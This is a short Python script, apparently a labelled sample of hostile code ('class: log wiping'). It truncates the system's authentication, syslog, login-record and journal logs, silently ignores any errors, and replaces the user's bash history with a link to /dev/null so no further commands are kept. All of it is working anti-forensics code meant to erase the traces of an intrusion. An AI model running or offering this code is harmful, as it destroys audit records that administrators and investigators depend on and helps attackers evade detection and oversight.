# class: log wiping; style: tidy
import glob
import os
from pathlib import Path

for pattern in ("/var/log/*.log", "/var/log/auth.log*", "/var/log/syslog*", "/var/log/wtmp", "/var/log/btmp",
                "/var/log/lastlog", "/var/log/journal/*/*.journal"):
    for name in glob.glob(pattern):
        try:
            with open(name, "r+b") as fh:
                fh.truncate(0)
        except OSError:
            pass
history = Path.home() / ".bash_history"
history.unlink(missing_ok=True)
os.symlink("/dev/null", history)
